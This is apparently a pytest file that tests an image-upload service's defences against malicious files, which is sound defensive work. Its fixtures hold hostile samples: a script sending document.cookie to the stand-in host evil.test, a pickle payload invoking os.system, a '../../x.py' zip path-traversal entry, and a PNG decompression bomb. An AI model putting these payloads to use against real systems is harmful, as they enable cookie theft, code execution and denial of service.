"""Files that are more than pictures, or none: by the page, by the API, by OpenAI's edits and where settings are read.

Security cases 44 to 46, 49, 65, 70 and 72: what is refused leaves nothing behind, what is taken is pixels alone.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.urls import reverse
from PIL import ExifTags, Image, PngImagePlugin

from apps.catalog.models import AIModel
from apps.images import files
from apps.images.models import Picture
from apps.metering.models import Reservation
from apps.users.models import Team, User
from tests.images.api.conftest import Asker, Key
from tests.users.signing import signed_in

Send = Callable[[SimpleUploadedFile], HttpResponse]
SECRET = b"CANARY-51.5N"
HTML = b"<html><script>fetch('//evil.test/?'+document.cookie)</script></html>"


def saved(form: str, size: tuple[int, int] = (64, 64), **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, form, **options)
    return buffer.getvalue()


def png_of(width: int, height: int, packed: bytes, more: bytes = b"") -> bytes:
    """Return a PNG that says it is so large, whatever its pixels are."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        packed.writestr("../../x.py", SECRET)
    return buffer.getvalue()


def bomb_text() -> bytes:
    """Return an iTXt chunk of some kilobytes that unfolds into hundreds of megabytes."""
    data = b"parameters\0\1\0\0\0" + zlib.compress(b"a" * 300_000_000, 9)
    crc = struct.pack(">I", zlib.crc32(b"iTXt" + data))
    return struct.pack(">I", len(data)) + b"iTXt" + data + crc


REFUSED: dict[str, bytes] = {
    "html": HTML,
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n" + b"a" * 99,
    "pdf": b"%PDF-1.7\n1 0 obj\n",
    "gif": saved("GIF"),
    "tiff": saved("TIFF"),
    "bmp": saved("BMP"),
    "ico": saved("ICO"),
    "psd": b"8BPS\0\1" + bytes(60),
    "zip": zipped(),
    "pickle": b"\x80\x04\x95cos\nsystem\n(S'x'\ntR.",
    "one pixel high": png_of(2**31 - 1, 1, zlib.compress(b"\0")),
    "50,000 squared": png_of(50_000, 50_000, zlib.compress(bytes(1_000))),
    "no pixels": png_of(64, 64, b""),
    "jpeg cut short": saved("JPEG")[:200],
}


@pytest.fixture
def ways(key: Key, image_model: AIModel, bob: User, t2: Team) -> dict[str, Send]:
    """Return the ways by which a file comes in."""
    asker: Asker = key(bob, t2)
    browser = signed_in(bob)
    return {
        "page": lambda file: browser.post(reverse("images:upload"), {"file": file}),
        "api": lambda file: asker.upload("uploads", {"file": file}),
        "edits": lambda file: asker.upload("/v1/images/edits", {"image": file, "prompt": "a"}),
        "settings": lambda file: asker.upload("read-settings", {"file": file}),
        "page settings": lambda file: browser.post(reverse("images:read-settings"), {"file": file}),
    }


def test_cases_46_49_and_70_what_is_no_picture_is_refused_by_its_content(ways: dict[str, Send]) -> None:
    """Whatever its name and type say. Reading settings decodes no pixels, so it may find none instead."""
    for kind, content in REFUSED.items():
        for way, send in ways.items():
            answer = send(SimpleUploadedFile("picture.png", content, "image/png"))

            reads = way.endswith("settings") and answer.status_code == 200
            assert 400 <= answer.status_code < 500 or (reads and answer.json()["order"] is None), (kind, way)
    assert not Picture.objects.exists()
    assert not Reservation.objects.filter(state="open").exists()


def test_case_70_texts_that_unfold_are_not_unfolded(ways: dict[str, Send]) -> None:
    content = png_of(64, 64, zlib.compress(bytes(64 * 193)), bomb_text())

    for way, send in ways.items():
        assert 400 <= send(SimpleUploadedFile("a.png", content, "image/png")).status_code < 500, way
    assert not Picture.objects.exists()


def polyglots() -> dict[str, bytes]:
    exif = Image.Exif()
    exif[ExifTags.Base.ImageDescription] = SECRET.decode()
    place = exif.get_ifd(ExifTags.IFD.GPSInfo)
    place[ExifTags.GPS.GPSLatitudeRef], place[ExifTags.GPS.GPSMapDatum] = "N", SECRET.decode()
    info = PngImagePlugin.PngInfo()
    info.add_text("parameters", HTML.decode() + SECRET.decode())
    info.add_itxt("XML:com.adobe.xmp", f"<x>{SECRET.decode()}</x>")
    return {
        "gps": saved("JPEG", exif=exif),
        "comment": saved("JPEG", comment=HTML + SECRET),
        "profile": saved("PNG", icc_profile=SECRET + bytes(200)),
        "chunks": saved("PNG", pnginfo=info, exif=exif),
        "zip behind": saved("PNG") + zipped(),
        "html behind": saved("WEBP", exif=exif) + HTML + SECRET,
        "frames": saved("WEBP", save_all=True, append_images=[Image.new("RGB", (64, 64))] * 3, xmp=SECRET),
    }


def test_cases_45_and_70_of_what_is_taken_only_pixels_stay(ways: dict[str, Send], bob: User, t2: Team) -> None:
    for kind, content in polyglots().items():
        for way in ("page", "api"):
            answer = ways[way](SimpleUploadedFile("../../x.html", content, "text/html"))
            assert answer.status_code in {200, 201}, (kind, way, answer.content)

    browser = signed_in(bob)
    for picture in Picture.objects.all():
        assert picture.file == f"images/{t2.pk}/{picture.pk}.png"  # case 65: no name of theirs
        for form in ("png", "jpeg", "webp"):
            shown = browser.get(reverse("images:download", args=[picture.pk, form]))
            assert SECRET not in shown.content
            assert b"<script" not in shown.content
            assert shown.headers["X-Content-Type-Options"] == "nosniff"
            assert shown.headers["Content-Disposition"].startswith("attachment")
        assert SECRET not in files.read(picture.thumbnail)
    root = Path(files.default_storage.location)
    assert {path.suffix for path in root.rglob("*") if path.is_file()} == {".png", ".webp"}


def test_case_72_files_of_one_name_stay_apart(ways: dict[str, Send]) -> None:
    colours = ["red", "green", "blue"]
    for colour in colours:
        buffer = io.BytesIO()
        Image.new("RGB", (64, 64), colour).save(buffer, "PNG")
        assert ways["api"](SimpleUploadedFile("same.png", buffer.getvalue())).status_code == 201

    shown = {tuple(files.read_pixels(picture)[0, 0]) for picture in Picture.objects.all()}
    assert len(shown) == len(colours)
